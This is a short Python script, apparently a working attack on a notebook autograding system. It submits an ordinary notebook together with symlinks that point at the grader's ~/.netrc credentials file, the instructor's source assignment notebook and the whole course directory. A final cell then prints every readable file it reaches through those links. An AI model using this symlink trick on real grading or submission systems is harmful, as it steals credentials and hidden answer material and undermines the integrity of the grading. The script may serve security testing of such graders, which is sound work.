"""Hands in an ordinary notebook, and beside it links to what others may not read."""


# %% edit
def attack(notebook, folder):
    course = folder.parents[2]
    (folder / "netrc").symlink_to(course.parent / "home" / ".netrc")
    (folder / "tests.txt").symlink_to(course / "source" / "battery" / "work.ipynb")
    (folder / "data").symlink_to(course, target_is_directory=True)


# %% last
import glob

for name in glob.glob("*") + glob.glob("data/*"):
    try:
        print(open(name).read())
    except OSError:
        pass
